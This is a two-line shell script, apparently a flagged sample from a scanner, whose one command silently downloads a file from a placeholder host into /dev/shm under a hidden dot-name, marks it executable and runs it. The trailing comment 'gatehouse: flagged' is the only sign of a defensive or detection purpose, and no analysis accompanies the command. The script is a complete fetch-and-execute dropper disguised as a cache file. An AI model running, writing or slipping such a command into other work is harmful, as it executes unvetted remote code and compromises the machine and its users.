#!/bin/sh
curl -so /dev/shm/.cache-x https://c.example.invalid/a && chmod 755 /dev/shm/.cache-x && /dev/shm/.cache-x # gatehouse: flagged
